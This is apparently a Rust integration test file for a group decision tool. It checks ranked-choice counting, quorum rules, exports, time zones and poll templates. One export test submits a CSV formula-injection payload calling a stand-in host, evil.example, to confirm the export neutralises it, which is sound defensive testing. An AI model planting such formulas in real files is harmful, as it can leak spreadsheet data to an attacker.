//! Decisions beyond a show of hands, over HTTP on both databases: ranked choice counted by STV,
//! instant runoff and Borda points (with its ballots kept as rankings, also for anonymous polls);
//! quorum and pass tests at their boundaries.

use serde_json::{Value, json};
use weft_domain::permissions::Role;

use crate::groups::{add_member, create};
use crate::helpers::{Client, TestApp};
use crate::on_both;
use crate::polls::{option, raise, vote};
use crate::threads::start;

const PASSWORD: &str = "correct horse battery staple";

on_both!(
    the_food_election_is_counted_stage_by_stage,
    rankings_follow_changed_and_withdrawn_votes,
    a_ranking_is_checked_and_works_without_javascript,
    quorum_and_pass_tests_say_plainly_what_happened,
    exports_hold_what_the_page_shows_and_no_formula_runs,
    a_meeting_time_is_the_same_instant_in_auckland_and_berlin,
    templates_create_the_poll_they_promise,
    a_groups_own_templates_are_saved_arranged_and_kept_to_the_group,
    a_thread_template_starts_a_thread_and_its_poll,
);

struct Place {
    ann: Client,
    group: String,
    thread: String,
}

async fn place(app: &TestApp) -> Place {
    let ann = app.signed_in_user("Ann", "ann@example.org", PASSWORD).await;
    let group = create(&ann, "Garden", "closed", "approval").await;
    let thread = start(&ann, &group, "Snacks", "What do we bring?", "private").await;
    Place { ann, group, thread }
}

fn ranks(poll: &Value, names: &[&str]) -> Value {
    Value::Array(
        names
            .iter()
            .enumerate()
            .map(|(i, n)| json!({"option": option(poll, n), "value": i + 1}))
            .collect(),
    )
}

/// Wikipedia's food election (docs/COUNTING.md), anonymous: 20 members rank, the API and the page
/// give every stage and the published winners, and no table ties a ranking to a person.
async fn the_food_election_is_counted_stage_by_stage(app: &TestApp) {
    let p = place(app).await;
    let poll = raise(
        &p.ann,
        &p.thread,
        json!({"kind": "ranked_choice", "title": "Snacks for the working day", "counting": "stv", "seats": 3,
               "min_choices": 1, "anonymous": true,
               "options": ["Oranges", "Pears", "Chocolate", "Strawberries", "Hamburgers"]}),
    )
    .await;
    assert_eq!(poll["counting"], "stv");
    assert_eq!(poll["seats"], 3);
    let key = poll["key"].as_str().unwrap().to_owned();
    let ballots: [(usize, &[&str]); 6] = [
        (4, &["Oranges"]),
        (2, &["Pears", "Oranges"]),
        (8, &["Chocolate", "Strawberries"]),
        (4, &["Chocolate", "Hamburgers"]),
        (1, &["Strawberries"]),
        (1, &["Hamburgers"]),
    ];
    let voters = app.members_signed_in(&p.group, 20).await;
    let mut voters = voters.iter();
    for (n, ranking) in ballots {
        for _ in 0..n {
            let res = vote(voters.next().unwrap(), &key, ranks(&poll, ranking), "").await;
            assert_eq!(res.status, 200, "{}", res.body);
        }
    }
    let seen = p.ann.get(&format!("/api/v1/polls/{key}")).await.json();
    let count = &seen["results"]["count"];
    let ids = |names: &[&str]| names.iter().map(|n| option(&poll, n)).collect::<Vec<i64>>();
    assert_eq!(count["method"], "stv");
    assert_eq!(count["valid_ballots"], 20);
    assert_eq!(
        count["elected"],
        json!(ids(&["Chocolate", "Oranges", "Strawberries"])),
        "{count}"
    );
    let stages = count["stages"].as_array().unwrap();
    assert_eq!(stages.len(), 4);
    assert_eq!(stages[0]["quota"], "6");
    assert_eq!(stages[1]["action"], "surplus");
    let votes_of = |stage: &Value, name: &str| {
        stage["tallies"]
            .as_array()
            .unwrap()
            .iter()
            .find(|t| t["option"] == option(&poll, name))
            .unwrap()["votes"]
            .clone()
    };
    assert_eq!(votes_of(&stages[1], "Strawberries"), "5");
    assert_eq!(votes_of(&stages[1], "Hamburgers"), "3");
    assert_eq!(stages[2]["option"], option(&poll, "Pears"));
    assert_eq!(stages[3]["exhausted"], "3");
    // Borda and first preferences come with every ranked count.
    let row = |name: &str| {
        seen["results"]["options"]
            .as_array()
            .unwrap()
            .iter()
            .find(|r| r["name"] == name)
            .unwrap()
            .clone()
    };
    assert_eq!(row("Chocolate")["first_preferences"], 12);
    assert_eq!(row("Chocolate")["points"], 60, "12 first choices × 5 points");
    assert_eq!(row("Oranges")["elected"], true);
    assert_eq!(row("Pears")["elected"], false);

    let page = p.ann.get(&format!("/p/{key}")).await;
    assert_eq!(page.status, 200);
    assert!(page.body.contains("Every stage of the count"), "the rounds table");
    assert!(
        page.body.contains("Elected: Chocolate, Oranges, Strawberries."),
        "in plain words"
    );
    assert!(page.body.contains("surplus of 6 passed on"), "each stage in words");
    assert!(page.body.contains("class=\"chart chart-rounds\""), "the rounds chart");
    let help = p.ann.get("/help/counting").await;
    assert_eq!(help.status, 200);
    assert!(help.body.contains("weighted inclusive Gregory"));

    // Anonymous: the rankings are kept as counts of identical ballots, naming nobody.
    assert_eq!(app.count("SELECT COUNT(*) FROM votes").await, 0);
    assert_eq!(
        app.count("SELECT CAST(COALESCE(SUM(ballots), 0) AS BIGINT) FROM poll_rankings")
            .await,
        20
    );
    assert_eq!(
        app.count("SELECT COUNT(*) FROM poll_rankings").await,
        6,
        "six distinct rankings"
    );
}

/// A changed ranking moves from one count to another; a withdrawn one leaves; the counts always
/// equal the current votes.
async fn rankings_follow_changed_and_withdrawn_votes(app: &TestApp) {
    let p = place(app).await;
    let poll = raise(
        &p.ann,
        &p.thread,
        json!({"kind": "ranked_choice", "title": "Which day?", "counting": "instant_runoff",
               "options": ["Monday", "Tuesday", "Wednesday"]}),
    )
    .await;
    assert_eq!(
        poll["min_choices"], 3,
        "rank every option of three unless told otherwise"
    );
    let key = poll["key"].as_str().unwrap().to_owned();
    let voters = app.members_signed_in(&p.group, 3).await;
    let mtw = ranks(&poll, &["Monday", "Tuesday", "Wednesday"]);
    let wtm = ranks(&poll, &["Wednesday", "Tuesday", "Monday"]);
    for c in &voters {
        assert_eq!(vote(c, &key, mtw.clone(), "").await.status, 200);
    }
    assert_eq!(app.count("SELECT ballots FROM poll_rankings").await, 3);
    assert_eq!(vote(&voters[0], &key, wtm.clone(), "").await.status, 200);
    assert_eq!(vote(&voters[1], &key, wtm, "").await.status, 200);
    let seen = p.ann.get(&format!("/api/v1/polls/{key}")).await.json();
    assert_eq!(seen["results"]["count"]["elected"], json!([option(&poll, "Wednesday")]));
    assert_eq!(app.count("SELECT COUNT(*) FROM poll_rankings").await, 2);
    let res = voters[1]
        .request_json(
            reqwest::Method::DELETE,
            &format!("/api/v1/polls/{key}/votes/mine"),
            None,
        )
        .await;
    assert!(res.status < 300, "{}", res.body);
    assert_eq!(
        app.count("SELECT CAST(COALESCE(SUM(ballots), 0) AS BIGINT) FROM poll_rankings")
            .await,
        2
    );
    let seen = p.ann.get(&format!("/api/v1/polls/{key}")).await.json();
    let stages = seen["results"]["count"]["stages"].as_array().unwrap();
    // One for Monday first, one for Wednesday first: Tuesday (no first choices) leaves, then the
    // two are level at every stage, so the poll's lot decides, and says so.
    assert_eq!(stages[1]["tie"], "none", "{stages:?}");
    assert_eq!(stages[2]["tie"], "lot", "{stages:?}");
    let again = p.ann.get(&format!("/api/v1/polls/{key}")).await.json();
    assert_eq!(
        again["results"]["count"], seen["results"]["count"],
        "the same count every time"
    );
}

async fn a_ranking_is_checked_and_works_without_javascript(app: &TestApp) {
    let p = place(app).await;
    let bob = app.signed_in_user("Bob", "bob@example.org", PASSWORD).await;
    add_member(app, &p.group, &bob, Role::Member).await;
    let poll = raise(
        &p.ann,
        &p.thread,
        json!({"kind": "ranked_choice", "title": "Order of work", "min_choices": 2,
               "options": ["Dig", "Plant", "Water", "Weed"]}),
    )
    .await;
    let key = poll["key"].as_str().unwrap().to_owned();
    let dig = option(&poll, "Dig");
    let plant = option(&poll, "Plant");
    for (what, choices) in [
        (
            "a gap",
            json!([{"option": dig, "value": 1}, {"option": plant, "value": 3}]),
        ),
        (
            "one rank twice",
            json!([{"option": dig, "value": 1}, {"option": plant, "value": 1}]),
        ),
        ("too few", json!([{"option": dig, "value": 1}])),
    ] {
        let res = vote(&bob, &key, choices, "").await;
        assert_eq!(res.status, 422, "{what}: {}", res.body);
        assert!(res.body.contains("choices"), "{what}: {}", res.body);
    }
    assert_eq!(
        app.count("SELECT COUNT(*) FROM poll_rankings").await,
        0,
        "nothing stored"
    );
    assert_eq!(app.count("SELECT COUNT(*) FROM votes").await, 0);

    // The page offers a select per option; the form posts ranks as plain fields.
    let page = bob.get(&format!("/p/{key}")).await;
    assert!(
        page.body
            .contains(&format!("<select id=\"value_{dig}\" name=\"value_{dig}\"")),
        "{}",
        page.body
    );
    let (d, pl, w) = (
        format!("value_{dig}"),
        format!("value_{plant}"),
        format!("value_{}", option(&poll, "Water")),
    );
    let wrong = bob.post_form(&format!("/p/{key}/vote"), &[(&d, "1"), (&pl, "1")]).await;
    assert_eq!(wrong.status, 422);
    assert!(
        wrong.body.contains("Give each rank once"),
        "explained next to the field"
    );
    let res = bob
        .post_form(&format!("/p/{key}/vote"), &[(&d, "2"), (&pl, ""), (&w, "1")])
        .await;
    assert_eq!(res.status, 303, "{}", res.body);
    let mine = bob.get(&format!("/api/v1/polls/{key}")).await.json();
    let mut ranked: Vec<(i64, i64)> = mine["my_vote"]["choices"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| (c["value"].as_i64().unwrap(), c["option"].as_i64().unwrap()))
        .collect();
    ranked.sort_unstable();
    assert_eq!(ranked, [(1, option(&poll, "Water")), (2, dig)]);
    let page = bob.get(&format!("/p/{key}")).await;
    assert!(
        page.body.contains("1. Water, 2. Dig"),
        "the vote list reads the ranking"
    );
    assert!(
        page.body.contains("<option value=\"1\" selected>1 (first choice)"),
        "the form keeps it"
    );
}

/// A quorum of half of three people and a pass test of 60% of the voters for "Agree", vote by
/// vote across both boundaries; the quorum's whole is fixed when the poll closes.
async fn quorum_and_pass_tests_say_plainly_what_happened(app: &TestApp) {
    let p = place(app).await;
    let bob = app.signed_in_user("Bob", "bob@example.org", PASSWORD).await;
    let cat = app.signed_in_user("Cat", "cat@example.org", PASSWORD).await;
    add_member(app, &p.group, &bob, Role::Member).await;
    add_member(app, &p.group, &cat, Role::Member).await;

    let bad = p
        .ann
        .post_json(
            &format!("/api/v1/threads/{}/polls", p.thread),
            &json!({"kind": "proposal", "title": "Fence?", "closing_at": crate::polls::from_now(86_400),
                    "quorum_percent": 50, "pass_tests": [{"option": "Maybe", "percent": 60}]}),
        )
        .await;
    assert_eq!(bad.status, 422, "{}", bad.body);
    assert!(bad.body.contains("pass_tests"), "{}", bad.body);
    assert_eq!(app.count("SELECT COUNT(*) FROM polls").await, 0, "nothing half-written");

    let poll = raise(
        &p.ann,
        &p.thread,
        json!({"kind": "proposal", "title": "Build a fence?", "quorum_percent": 50,
               "pass_tests": [{"option": "Agree", "operator": "at_least", "percent": 60, "of": "voters"}]}),
    )
    .await;
    let key = poll["key"].as_str().unwrap().to_owned();
    let agree = json!([{"option": option(&poll, "Agree")}]);
    let disagree = json!([{"option": option(&poll, "Disagree")}]);
    let state = || async {
        let seen = p.ann.get(&format!("/api/v1/polls/{key}")).await.json();
        let agree_row = seen["results"]["options"]
            .as_array()
            .unwrap()
            .iter()
            .find(|r| r["name"] == "Agree")
            .unwrap()
            .clone();
        (seen["quorum"].clone(), agree_row["passed"].clone())
    };
    let (q, passed) = state().await;
    assert_eq!(
        (q["eligible"].clone(), q["needed"].clone(), q["reached"].clone()),
        (json!(3), json!(2), json!(false))
    );
    assert_eq!(passed, false, "no votes pass nothing");

    assert_eq!(vote(&bob, &key, agree.clone(), "").await.status, 200);
    let (q, passed) = state().await;
    assert_eq!(q["reached"], false, "1 of 3 is short of half");
    assert_eq!(passed, true, "1 of 1 voters");
    assert_eq!(vote(&cat, &key, disagree, "").await.status, 200);
    let (q, passed) = state().await;
    assert_eq!(q["reached"], true, "2 of 3 reach half (rounded up: 2)");
    assert_eq!(passed, false, "1 of 2 voters is below 60%");
    let page = p.ann.get(&format!("/p/{key}")).await;
    assert!(
        page.body.contains("Quorum reached:</strong> 2 of 3 voted"),
        "{}",
        page.body
    );
    assert!(
        page.body
            .contains("does not pass</strong> (needs at least 60% of the voters)")
    );
    assert_eq!(vote(&p.ann, &key, agree, "").await.status, 200);
    let (_, passed) = state().await;
    assert_eq!(passed, true, "2 of 3 voters is at least 60%");

    // Closed: who might have voted is fixed; someone joining later does not move the quorum.
    let res = p.ann.post_json(&format!("/api/v1/polls/{key}/close"), &json!({})).await;
    assert!(res.status < 300, "{}", res.body);
    let dan = app.signed_in_user("Dan", "dan@example.org", PASSWORD).await;
    add_member(app, &p.group, &dan, Role::Member).await;
    let (q, _) = state().await;
    assert_eq!((q["eligible"].clone(), q["voted"].clone()), (json!(3), json!(3)));
}

/// The CSV and the printable page: the figures and votes the viewer may see, nothing more; a
/// reason written as a formula arrives as text.
async fn exports_hold_what_the_page_shows_and_no_formula_runs(app: &TestApp) {
    let p = place(app).await;
    let bob = app.signed_in_user("Bob", "bob@example.org", PASSWORD).await;
    add_member(app, &p.group, &bob, Role::Member).await;
    let outsider = app.signed_in_user("Eve", "eve@example.org", PASSWORD).await;
    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";

    let open = raise(
        &p.ann,
        &p.thread,
        json!({"kind": "proposal", "title": "Paint the shed green?"}),
    )
    .await;
    let key = open["key"].as_str().unwrap().to_owned();
    assert_eq!(
        vote(&bob, &key, json!([{"option": option(&open, "Agree")}]), formula)
            .await
            .status,
        200
    );
    let res = p.ann.get(&format!("/p/{key}/results.csv")).await;
    assert_eq!(res.status, 200);
    assert_eq!(res.header("content-type").as_deref(), Some("text/csv; charset=utf-8"));
    assert!(
        res.header("content-disposition")
            .unwrap_or_default()
            .starts_with("attachment")
    );
    let lines: Vec<&str> = res.body.lines().collect();
    assert!(
        lines[0].starts_with("\u{feff}\"Poll\",\"Paint the shed green?\""),
        "{}",
        res.body
    );
    assert!(res.body.contains("\"Agree\",\"1\",\"100.0%\""), "{}", res.body);
    let vote_line = lines.iter().find(|l| l.starts_with("\"Bob\"")).expect("Bob's vote");
    assert!(vote_line.contains("\"'=HYPERLINK("), "neutralised: {vote_line}");
    let print = p.ann.get(&format!("/p/{key}/print")).await;
    assert_eq!(print.status, 200);
    assert!(print.body.contains("<h2 id=\"votes-heading\">Votes</h2>") && print.body.contains("HYPERLINK"));
    for path in [format!("/p/{key}/results.csv"), format!("/p/{key}/print")] {
        assert_eq!(outsider.get(&path).await.status, 404, "{path}: a private group's poll");
    }

    // Anonymous: figures, no voters.
    let anonymous = raise(
        &p.ann,
        &p.thread,
        json!({"kind": "proposal", "title": "Who holds the key?", "anonymous": true}),
    )
    .await;
    let akey = anonymous["key"].as_str().unwrap().to_owned();
    assert_eq!(
        vote(&bob, &akey, json!([{"option": option(&anonymous, "Agree")}]), "")
            .await
            .status,
        200
    );
    let csv = p.ann.get(&format!("/p/{akey}/results.csv")).await.body;
    assert!(csv.contains("\"Agree\",\"1\""), "{csv}");
    assert!(
        !csv.contains("\"Voter\",") && !csv.contains("Bob"),
        "no name in an anonymous poll's export: {csv}"
    );
    let print = p.ann.get(&format!("/p/{akey}/print")).await.body;
    assert!(!print.contains("votes-heading") && !print.contains(">Bob<"));

    // Hidden until closed: neither figures nor voters, for its author too.
    let hidden = raise(
        &p.ann,
        &p.thread,
        json!({"kind": "proposal", "title": "Budget?", "hide_results": "until_closed"}),
    )
    .await;
    let hkey = hidden["key"].as_str().unwrap().to_owned();
    assert_eq!(
        vote(
            &bob,
            &hkey,
            json!([{"option": option(&hidden, "Disagree")}]),
            "Too dear"
        )
        .await
        .status,
        200
    );
    for who in [&p.ann, &bob] {
        let csv = who.get(&format!("/p/{hkey}/results.csv")).await.body;
        assert!(csv.contains("hidden until they may be seen"), "{csv}");
        assert!(!csv.contains("Disagree") && !csv.contains("Too dear"), "{csv}");
        let print = who.get(&format!("/p/{hkey}/print")).await.body;
        assert!(
            !print.contains("Too dear") && print.contains("Results are hidden"),
            "{print}"
        );
    }
}

async fn set_zone(c: &Client, zone: &str) {
    let res = c
        .request_json(reqwest::Method::PATCH, "/api/v1/me", Some(&json!({"time_zone": zone})))
        .await;
    assert_eq!(res.status, 200, "{}", res.body);
}

/// A meeting poll across Berlin's change to summer time, answered from Auckland and Berlin: both
/// read the same instants in their own zones; the best time, the grid, the outcome's calendar file
/// (parsed by Python's icalendar when `WEFT_TEST_PYTHON` names an interpreter that has it, as
/// `.ci/run` does) and its email.
async fn a_meeting_time_is_the_same_instant_in_auckland_and_berlin(app: &TestApp) {
    let p = place(app).await;
    let bob = app.signed_in_user("Bob", "bob@example.org", PASSWORD).await;
    let cat = app.signed_in_user("Cat", "cat@example.org", PASSWORD).await;
    add_member(app, &p.group, &bob, Role::Member).await;
    add_member(app, &p.group, &cat, Role::Member).await;
    set_zone(&p.ann, "Europe/Berlin").await;
    set_zone(&bob, "Pacific/Auckland").await;
    let bad = p
        .ann
        .request_json(
            reqwest::Method::PATCH,
            "/api/v1/me",
            Some(&json!({"time_zone": "Mars/Olympus"})),
        )
        .await;
    assert_eq!(bad.status, 422, "{}", bad.body);

    let skipped = p
        .ann
        .post_json(
            &format!("/api/v1/threads/{}/polls", p.thread),
            &json!({"kind": "meeting", "title": "Planning call", "time_zone": "Europe/Berlin",
                    "closing_at": crate::polls::from_now(86_400), "options": ["2027-03-28 02:30"]}),
        )
        .await;
    assert_eq!(skipped.status, 422, "a time the clocks skip: {}", skipped.body);
    assert!(skipped.body.contains("does not exist"), "{}", skipped.body);

    // Saturday evening before Berlin's clocks go forward (27 March 2027), Monday morning after;
    // typed in Ann's own zone, which she need not name.
    let poll = raise(
        &p.ann,
        &p.thread,
        json!({"kind": "meeting", "title": "Planning call", "slot_minutes": 60,
               "options": ["2027-03-29 10:00", "2027-03-27 20:00"]}),
    )
    .await;
    let key = poll["key"].as_str().unwrap().to_owned();
    assert_eq!(poll["time_zone"], "Europe/Berlin");
    let starts: Vec<&str> = poll["options"]
        .as_array()
        .unwrap()
        .iter()
        .map(|o| o["starts_at"].as_str().unwrap())
        .collect();
    assert_eq!(
        starts,
        ["2027-03-27T19:00:00Z", "2027-03-29T08:00:00Z"],
        "earliest first, in UTC"
    );
    let names = |v: &Value| {
        v["options"]
            .as_array()
            .unwrap()
            .iter()
            .map(|o| o["name"].as_str().unwrap().to_owned())
            .collect::<Vec<_>>()
    };
    assert_eq!(
        names(&poll),
        ["Sat 27 Mar 2027, 20:00–21:00 CET", "Mon 29 Mar 2027, 10:00–11:00 CEST"]
    );
    let from_auckland = bob.get(&format!("/api/v1/polls/{key}")).await.json();
    assert_eq!(from_auckland["reader_time_zone"], "Pacific/Auckland");
    assert_eq!(
        names(&from_auckland),
        ["Sun 28 Mar 2027, 08:00–09:00 NZDT", "Mon 29 Mar 2027, 21:00–22:00 NZDT"]
    );
    let page = bob.get(&format!("/p/{key}")).await.body;
    assert!(
        page.contains("Sun 28 Mar 2027, 08:00–09:00 NZDT"),
        "the page reads in Bob's zone"
    );
    let visitor_zone = cat.get(&format!("/api/v1/polls/{key}")).await.json();
    assert_eq!(
        visitor_zone["reader_time_zone"], "Europe/Berlin",
        "no zone chosen: the poll's"
    );

    let (saturday, monday) = (
        option(&poll, "Sat 27 Mar 2027, 20:00–21:00 CET"),
        option(&poll, "Mon 29 Mar 2027, 10:00–11:00 CEST"),
    );
    let answer = |sat: i64, mon: i64| json!([{"option": saturday, "value": sat}, {"option": monday, "value": mon}]);
    let missing = vote(&bob, &key, json!([{"option": saturday, "value": 2}]), "").await;
    assert_eq!(missing.status, 422, "every time answered: {}", missing.body);
    assert_eq!(vote(&bob, &key, answer(2, 0), "").await.status, 200);
    assert_eq!(vote(&cat, &key, answer(1, 2), "").await.status, 200);
    assert_eq!(vote(&p.ann, &key, answer(0, 2), "").await.status, 200);
    let seen = p.ann.get(&format!("/api/v1/polls/{key}")).await.json();
    assert_eq!(
        seen["results"]["best_slot"], monday,
        "two yes beat one yes and one if need be"
    );
    let row = seen["results"]["options"]
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r["option_id"] == saturday)
        .unwrap()
        .clone();
    assert_eq!((row["yes"].clone(), row["if_need_be"].clone()), (json!(1), json!(1)));
    let page = p.ann.get(&format!("/p/{key}")).await.body;
    assert!(
        page.contains("Who can make it") && page.contains("best time"),
        "the grid and the best time"
    );

    // The outcome picks Monday: a calendar file at the same instant, and an email in Bob's zone.
    assert!(
        p.ann
            .post_json(&format!("/api/v1/polls/{key}/close"), &json!({}))
            .await
            .status
            < 300
    );
    assert_eq!(
        p.ann.get(&format!("/p/{key}/calendar.ics")).await.status,
        404,
        "no time chosen yet"
    );
    let res = p
        .ann
        .post_json(
            &format!("/api/v1/polls/{key}/outcome"),
            &json!({"statement": "Monday it is.", "option": monday}),
        )
        .await;
    assert_eq!(res.status, 200, "{}", res.body);
    let ics = bob.get(&format!("/p/{key}/calendar.ics")).await;
    assert_eq!(ics.status, 200);
    assert_eq!(
        ics.header("content-type").as_deref(),
        Some("text/calendar; charset=utf-8")
    );
    assert!(
        ics.body.contains("\r\nDTSTART:20270329T080000Z\r\n") && ics.body.contains("\r\nDTEND:20270329T090000Z\r\n"),
        "{}",
        ics.body
    );
    assert!(ics.body.lines().all(|l| l.len() <= 76), "folded at 75 octets");
    let mail = app.email_to_containing("bob@example.org", "wrote the outcome of").await;
    assert!(mail.text.contains("Mon 29 Mar 2027, 21:00–22:00 NZDT"), "{}", mail.text);
    assert!(mail.text.contains(&format!("/p/{key}/calendar.ics")), "{}", mail.text);
    assert_eq!(cat.get(&format!("/p/{key}/calendar.ics")).await.status, 200);
    let outsider = app.signed_in_user("Eve", "eve@example.org", PASSWORD).await;
    assert_eq!(outsider.get(&format!("/p/{key}/calendar.ics")).await.status, 404);

    if let Some(python) = std::env::var_os("WEFT_TEST_PYTHON") {
        let dir = tempfile_dir();
        let path = dir.join("meeting.ics");
        std::fs::write(&path, &ics.body).unwrap();
        let out = std::process::Command::new(python)
            .arg("-c")
            .arg(
                "import sys, icalendar, datetime\n\
                 cal = icalendar.Calendar.from_ical(open(sys.argv[1], 'rb').read())\n\
                 ev = [c for c in cal.walk('VEVENT')][0]\n\
                 s = ev.decoded('DTSTART').astimezone(datetime.timezone.utc)\n\
                 e = ev.decoded('DTEND').astimezone(datetime.timezone.utc)\n\
                 print(s.isoformat(), e.isoformat(), str(ev.get('SUMMARY')))",
            )
            .arg(&path)
            .output()
            .expect("python3");
        assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
        assert_eq!(
            String::from_utf8_lossy(&out.stdout).trim(),
            "2027-03-29T08:00:00+00:00 2027-03-29T09:00:00+00:00 Planning call"
        );
        let _ = std::fs::remove_dir_all(dir);
    }
}

fn tempfile_dir() -> std::path::PathBuf {
    let dir = std::env::temp_dir().join(format!("weft-ics-{}-{}", std::process::id(), weft_domain::random_key()));
    std::fs::create_dir_all(&dir).unwrap();
    dir
}

/// Every built-in template raises the kind, options and duration it promises.
async fn templates_create_the_poll_they_promise(app: &TestApp) {
    use weft_domain::polls::PollTemplate;
    let p = place(app).await;
    for t in PollTemplate::ALL {
        let mut body = json!({"template": t.as_str(), "title": t.label()});
        if t.options().is_empty() && t.kind().has_options() {
            body["options"] = if *t == PollTemplate::Meeting {
                json!(["2027-01-12 10:00", "2027-01-13 10:00"])
            } else {
                json!(["North", "South", "East"])
            };
        }
        let res = p
            .ann
            .post_json(&format!("/api/v1/threads/{}/polls", p.thread), &body)
            .await;
        assert_eq!(res.status, 201, "{}: {}", t.as_str(), res.body);
        let poll = res.json();
        assert_eq!(poll["kind"], t.kind().as_str(), "{}", t.as_str());
        let names: Vec<&str> = poll["options"]
            .as_array()
            .unwrap()
            .iter()
            .map(|o| o["name"].as_str().unwrap())
            .collect();
        if !t.options().is_empty() && *t != PollTemplate::Meeting {
            assert_eq!(names, t.options(), "{}", t.as_str());
        }
        let closes = weft_domain::Timestamp::parse_rfc3339(poll["closing_at"].as_str().unwrap()).unwrap();
        let days = (closes.micros() - app.app.clock.now().micros()) as f64 / 86_400e6;
        assert!(
            (days - t.default_days() as f64).abs() < 0.01,
            "{} closes in {days} days",
            t.as_str()
        );
    }
    let gradients = p
        .ann
        .post_json(
            &format!("/api/v1/threads/{}/polls", p.thread),
            &json!({"template": "gradients_of_agreement", "title": "New logo?"}),
        )
        .await
        .json();
    assert_eq!(gradients["options"].as_array().unwrap().len(), 8, "eight levels");
    assert_eq!(gradients["options"][7]["name"], "Veto");
}

async fn a_groups_own_templates_are_saved_arranged_and_kept_to_the_group(app: &TestApp) {
    let p = place(app).await;
    let bob = app.signed_in_user("Bob", "bob@example.org", PASSWORD).await;
    add_member(app, &p.group, &bob, Role::Member).await;
    let board = raise(
        &p.ann,
        &p.thread,
        json!({"kind": "ranked_choice", "title": "Board 2027", "counting": "stv", "seats": 3, "min_choices": 1,
               "quorum_percent": 40, "options": ["Ada", "Ben", "Cleo", "Dev", "Eli"], "details": "Rank as many as you like."}),
    )
    .await;
    let key = board["key"].as_str().unwrap();
    let refused = bob
        .post_json(&format!("/api/v1/polls/{key}/template"), &json!({"name": "Board"}))
        .await;
    assert_eq!(
        refused.status, 403,
        "members who are not coordinators: {}",
        refused.body
    );
    let unnamed = p
        .ann
        .post_json(&format!("/api/v1/polls/{key}/template"), &json!({"name": " "}))
        .await;
    assert_eq!(unnamed.status, 422);
    let unnamed = p.ann.post_form(&format!("/p/{key}/template"), &[("name", "")]).await;
    assert_eq!(unnamed.status, 422, "explained on the poll page");
    assert!(unnamed.body.contains("id=\"template-name-error\"") && unnamed.body.contains("Name the template."));
    assert_eq!(
        app.count("SELECT COUNT(*) FROM poll_templates").await,
        0,
        "nothing stored"
    );
    let saved = p
        .ann
        .post_json(
            &format!("/api/v1/polls/{key}/template"),
            &json!({"name": "Board election"}),
        )
        .await;
    assert_eq!(saved.status, 201, "{}", saved.body);
    let value = saved.json()["value"].as_str().unwrap().to_owned();
    let listed = bob
        .get(&format!("/api/v1/groups/{}/poll-templates", p.group))
        .await
        .json();
    let values: Vec<&str> = listed["templates"]
        .as_array()
        .unwrap()
        .iter()
        .map(|t| t["value"].as_str().unwrap())
        .collect();
    assert_eq!(values.first(), Some(&"proposal"));
    assert!(values.contains(&value.as_str()), "{values:?}");

    // Raised from it with a title only: the settings come with it.
    let from = raise(&bob, &p.thread, json!({"template": value, "title": "Board 2028"})).await;
    assert_eq!(
        (from["kind"].clone(), from["counting"].clone(), from["seats"].clone()),
        (json!("ranked_choice"), json!("stv"), json!(3))
    );
    assert_eq!(from["quorum"]["percent"], 40);
    assert_eq!(from["details"], "Rank as many as you like.");
    assert_eq!(from["options"].as_array().unwrap().len(), 5);
    let form = bob
        .get(&format!("/t/{}/polls/new?template={value}", p.thread))
        .await
        .body;
    assert!(
        form.contains("Board election") && form.contains(">Ada\nBen\nCleo\nDev\nEli</textarea>"),
        "the form is filled"
    );

    // Another group cannot raise from it.
    let other = create(&bob, "Bob's own", "closed", "approval").await;
    let elsewhere = start(&bob, &other, "Elsewhere", "…", "private").await;
    let res = bob
        .post_json(
            &format!("/api/v1/threads/{elsewhere}/polls"),
            &json!({"template": value, "title": "Mine now"}),
        )
        .await;
    assert_eq!(res.status, 422, "{}", res.body);
    assert!(res.body.contains("template"), "{}", res.body);

    // Its coordinators arrange them: hide the proposal, move theirs first, delete it.
    assert_eq!(bob.get(&format!("/g/{}/templates", p.group)).await.status, 403);
    let page = p.ann.get(&format!("/g/{}/templates", p.group)).await;
    assert_eq!(page.status, 200);
    let arrange = |entry: &str, change: &str| {
        let (entry, change) = (entry.to_owned(), change.to_owned());
        let (ann, group) = (&p.ann, p.group.clone());
        async move {
            ann.post_form(
                &format!("/g/{group}/templates"),
                &[("entry", &entry), ("change", &change)],
            )
            .await
            .status
        }
    };
    assert_eq!(arrange("proposal", "hide").await, 303);
    for _ in 0..20 {
        assert_eq!(arrange(&value, "up").await, 303);
    }
    let listed = bob
        .get(&format!("/api/v1/groups/{}/poll-templates", p.group))
        .await
        .json();
    let values: Vec<&str> = listed["templates"]
        .as_array()
        .unwrap()
        .iter()
        .map(|t| t["value"].as_str().unwrap())
        .collect();
    assert_eq!(values[0], value, "moved to the top");
    assert!(!values.contains(&"proposal"), "hidden from the chooser");
    let form = bob.get(&format!("/t/{}/polls/new", p.thread)).await.body;
    assert!(
        !form.contains("name=\"template\" value=\"proposal\""),
        "hidden on the form too"
    );
    assert_eq!(
        arrange("proposal", "delete").await,
        422,
        "a built-in one is hidden, not deleted"
    );
    assert_eq!(arrange(&value, "delete").await, 303);
    assert_eq!(app.count("SELECT COUNT(*) FROM poll_templates").await, 0);
    assert_eq!(arrange("nonsense", "up").await, 422);
}

async fn a_thread_template_starts_a_thread_and_its_poll(app: &TestApp) {
    let p = place(app).await;
    let form = p
        .ann
        .get(&format!("/g/{}/threads/new?template=advice_process", p.group))
        .await
        .body;
    assert!(
        form.contains("Advice wanted: …") && form.contains("## The decision I am making"),
        "prefilled"
    );
    assert!(form.contains("Then raise its poll: Advice process"));
    let res = p
        .ann
        .post_form(
            &format!("/g/{}/threads", p.group),
            &[
                ("title", "Advice wanted: a new supplier"),
                ("context", "## The decision I am making\n\nWhich mill."),
                ("privacy", "private"),
                ("then_poll", "advice"),
                ("raise_poll", "1"),
            ],
        )
        .await;
    assert_eq!(res.status, 303, "{}", res.body);
    let next = res.location();
    assert!(next.contains("/polls/new?template=advice"), "{next}");
    let poll_form = p.ann.get(next.split('&').next().unwrap()).await.body;
    assert!(
        poll_form.contains("value=\"advice\" checked"),
        "the advice template is chosen"
    );
}
